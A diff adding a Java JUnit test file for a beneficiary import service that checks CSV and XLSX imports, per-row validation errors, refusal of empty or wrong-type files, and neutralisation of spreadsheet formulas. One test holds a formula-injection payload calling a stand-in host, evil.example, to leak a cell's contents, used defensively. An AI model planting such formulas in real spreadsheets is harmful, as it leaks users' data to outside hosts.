@@ -1,0 +1,187 @@
+package id.go.jambiprov.dumisake.beneficiary;
+
+import id.go.jambiprov.dumisake.account.DumisakeUser;
+import id.go.jambiprov.dumisake.allocation.AllocationService;
+import id.go.jambiprov.dumisake.allocation.AllocationView;
+import id.go.jambiprov.dumisake.programme.FiscalYearService;
+import id.go.jambiprov.dumisake.programme.ProgrammeService;
+import id.go.jambiprov.dumisake.programme.ProgrammeView;
+import id.go.jambiprov.dumisake.shared.BusinessRuleException;
+import org.apache.poi.xssf.usermodel.XSSFRow;
+import org.apache.poi.xssf.usermodel.XSSFSheet;
+import org.apache.poi.xssf.usermodel.XSSFWorkbook;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.springframework.beans.factory.annotation.Autowired;
+import org.springframework.boot.test.context.SpringBootTest;
+import org.springframework.jdbc.core.JdbcTemplate;
+
+import java.io.ByteArrayOutputStream;
+import java.math.BigDecimal;
+import java.nio.charset.StandardCharsets;
+import java.util.List;
+
+import static id.go.jambiprov.dumisake.beneficiary.BeneficiaryTestSupport.allocation;
+import static id.go.jambiprov.dumisake.beneficiary.BeneficiaryTestSupport.as;
+import static id.go.jambiprov.dumisake.beneficiary.BeneficiaryTestSupport.desaOf;
+import static id.go.jambiprov.dumisake.beneficiary.BeneficiaryTestSupport.freshKecamatan;
+import static id.go.jambiprov.dumisake.beneficiary.BeneficiaryTestSupport.freshNik;
+import static id.go.jambiprov.dumisake.beneficiary.BeneficiaryTestSupport.operator;
+import static id.go.jambiprov.dumisake.beneficiary.BeneficiaryTestSupport.programme;
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+@SpringBootTest
+class BeneficiaryImportTest {
+
+    static final DumisakeUser OP_DISDIK = operator("DISDIK");
+    static final String HEADER = "nik,name,sex,date_of_birth,desa_code,address,phone,welfare_decile,allocation_id,"
+            + "aid_amount,aid_date,aid_description\n";
+
+    @Autowired
+    BeneficiaryImportService imports;
+
+    @Autowired
+    AllocationService allocations;
+
+    @Autowired
+    ProgrammeService programmes;
+
+    @Autowired
+    FiscalYearService fiscalYears;
+
+    @Autowired
+    JdbcTemplate jdbc;
+
+    String desa;
+    AllocationView allocation;
+
+    @BeforeEach
+    void anAllocationOf2048() {
+        BeneficiaryTestSupport.ensureOpen(fiscalYears);
+        String kecamatan = freshKecamatan(jdbc);
+        desa = desaOf(jdbc, kecamatan);
+        ProgrammeView programme = programme(programmes, null);
+        allocation = allocation(allocations, kecamatan, "DISDIK", programme.code(), new BigDecimal("10000000.00"));
+    }
+
+    @Test
+    void aGoodCsvFileIsImportedWithItsAid() {
+        String first = freshNik();
+        String second = freshNik();
+        String csv = HEADER
+                + row(first, "Penerima Sintetis Satu", "1000000", "Seragam sekolah")
+                + row(second, "Penerima Sintetis Dua", "", "");
+
+        ImportResult result = as(OP_DISDIK, () -> imports.importFile("penerima.csv", bytes(csv)));
+
+        assertThat(result.succeeded()).isTrue();
+        assertThat(result.beneficiariesCreated()).isEqualTo(2);
+        assertThat(result.aidCreated()).isEqualTo(1);
+        assertThat(count("select count(*) from beneficiary where nik in (?, ?)", first, second)).isEqualTo(2);
+        assertThat(count("select count(*) from aid where nik = ? and allocation_id = " + allocation.id(), first)).isEqualTo(1);
+        assertThat(jdbc.queryForObject("select registered_opd from beneficiary where nik = ?", String.class, first))
+                .isEqualTo("DISDIK");
+    }
+
+    @Test
+    void aGoodXlsxFileIsImported() throws Exception {
+        String nik = freshNik();
+        byte[] xlsx = workbook(List.of(
+                List.of("nik", "name", "sex", "date_of_birth", "desa_code", "address", "phone", "welfare_decile"),
+                List.of(nik, "Penerima Sintetis Xlsx", "F", "1990-07-01", desa, "Jl. Uji", "", "2")));
+
+        ImportResult result = as(OP_DISDIK, () -> imports.importFile("penerima.xlsx", xlsx));
+
+        assertThat(result.succeeded()).as(result.errors().toString()).isTrue();
+        assertThat(count("select count(*) from beneficiary where nik = ?", nik)).isEqualTo(1);
+    }
+
+    @Test
+    void aFileWithErrorsInSomeRowsWritesNothingAndReportsEveryError() {
+        String good = freshNik();
+        String twice = freshNik();
+        String csv = HEADER
+                + row(good, "Penerima Baik", "1000000", "")
+                + "1501014107900000,Serial Nol,F,1990-07-01," + desa + ",Jl. Uji,,3,,,,\n"            // row 3: serial
+                + row(twice, "Penerima Ganda", "", "")
+                + row(twice, "Penerima Ganda Lagi", "", "")                                          // row 5: twice
+                + freshNik() + ",Salah Kelamin,M,1990-07-01," + desa + ",Jl. Uji,,3,,,,\n"           // row 6: sex
+                + freshNik() + ",Desa Asing,F,1990-07-01,99.99.99.9999,Jl. Uji,,3,,,,\n"              // row 7: desa
+                + row(freshNik(), "Terlalu Besar", "20000000", "");                                  // row 8: room
+
+        ImportResult result = as(OP_DISDIK, () -> imports.importFile("penerima.csv", bytes(csv)));
+
+        assertThat(result.succeeded()).isFalse();
+        assertThat(result.errors()).extracting(ImportError::row).containsExactlyInAnyOrder(3, 5, 6, 7, 8);
+        assertThat(result.errors()).extracting(ImportError::column)
+                .containsExactlyInAnyOrder("nik", "nik", "sex", "desa_code", "aid_amount");
+        assertThat(count("select count(*) from beneficiary where nik in (?, ?)", good, twice)).isZero();
+        String report = as(OP_DISDIK, () -> imports.errorReport(result.id()));
+        assertThat(report.lines()).hasSize(6);
+    }
+
+    @Test
+    void anEmptyFileIsRefused() {
+        assertRefused("kosong.csv", new byte[0], "IMPORT_EMPTY");
+        assertRefused("hanya-judul.csv", bytes(HEADER), "IMPORT_EMPTY");
+    }
+
+    @Test
+    void aFileOfTheWrongTypeIsRefused() {
+        assertRefused("foto.png", new byte[]{(byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10, 0, 0}, "IMPORT_WRONG_TYPE");
+        assertRefused("penerima.csv", new byte[]{(byte) 0xFF, (byte) 0xFE, 0, 'n', 0, 'i'}, "IMPORT_WRONG_TYPE");
+        assertRefused("penerima.pdf", bytes("%PDF-1.7\n"), "IMPORT_WRONG_TYPE");
+        assertRefused("rusak.xlsx", new byte[]{'P', 'K', 3, 4, 1, 2, 3}, "IMPORT_WRONG_TYPE");
+    }
+
+    @Test
+    void formulaLikeCellsAreStoredAsTextAndNeutralisedInTheErrorReport() {
+        String nik = freshNik();
+        String formula = "=HYPERLINK(\"http://evil.example/\"&A1,\"klik\")";
+        String csv = HEADER
+                + nik + ",\"" + formula.replace("\"", "\"\"") + "\",F,1990-07-01," + desa + ",\"+62 Jl. Uji\",,3,,,,\n";
+
+        ImportResult stored = as(OP_DISDIK, () -> imports.importFile("penerima.csv", bytes(csv)));
+
+        assertThat(stored.succeeded()).isTrue();
+        assertThat(jdbc.queryForObject("select name from beneficiary where nik = ?", String.class, nik)).isEqualTo(formula);
+
+        String refused = HEADER + "=HYPERLINK(\"\"http://evil.example\"\")," + "Nama,F,1990-07-01," + desa + ",Jl.,,3,,,,\n";
+        ImportResult result = as(OP_DISDIK, () -> imports.importFile("penerima.csv", bytes(refused)));
+        String report = as(OP_DISDIK, () -> imports.errorReport(result.id()));
+        assertThat(report).contains("'=HYPERLINK").doesNotContain(",=HYPERLINK").doesNotContain("\"=HYPERLINK");
+    }
+
+    private String row(String nik, String name, String amount, String description) {
+        String aid = amount.isEmpty() ? ",," : allocation.id() + "," + amount + ",2048-03-10";
+        return nik + "," + name + ",F,1990-07-01," + desa + ",Jl. Uji No. 1,,3," + aid + "," + description + "\n";
+    }
+
+    private void assertRefused(String fileName, byte[] content, String code) {
+        assertThatThrownBy(() -> as(OP_DISDIK, () -> imports.importFile(fileName, content)))
+                .isInstanceOfSatisfying(BusinessRuleException.class, e -> assertThat(e.code()).isEqualTo(code));
+    }
+
+    private int count(String sql, Object... args) {
+        return jdbc.queryForObject(sql, Integer.class, args);
+    }
+
+    private static byte[] bytes(String text) {
+        return text.getBytes(StandardCharsets.UTF_8);
+    }
+
+    private static byte[] workbook(List<List<String>> rows) throws Exception {
+        try (XSSFWorkbook workbook = new XSSFWorkbook(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
+            XSSFSheet sheet = workbook.createSheet("penerima");
+            for (int r = 0; r < rows.size(); r++) {
+                XSSFRow row = sheet.createRow(r);
+                for (int c = 0; c < rows.get(r).size(); c++) {
+                    row.createCell(c).setCellValue(rows.get(r).get(c));
+                }
+            }
+            workbook.write(out);
+            return out.toByteArray();
+        }
+    }
+}
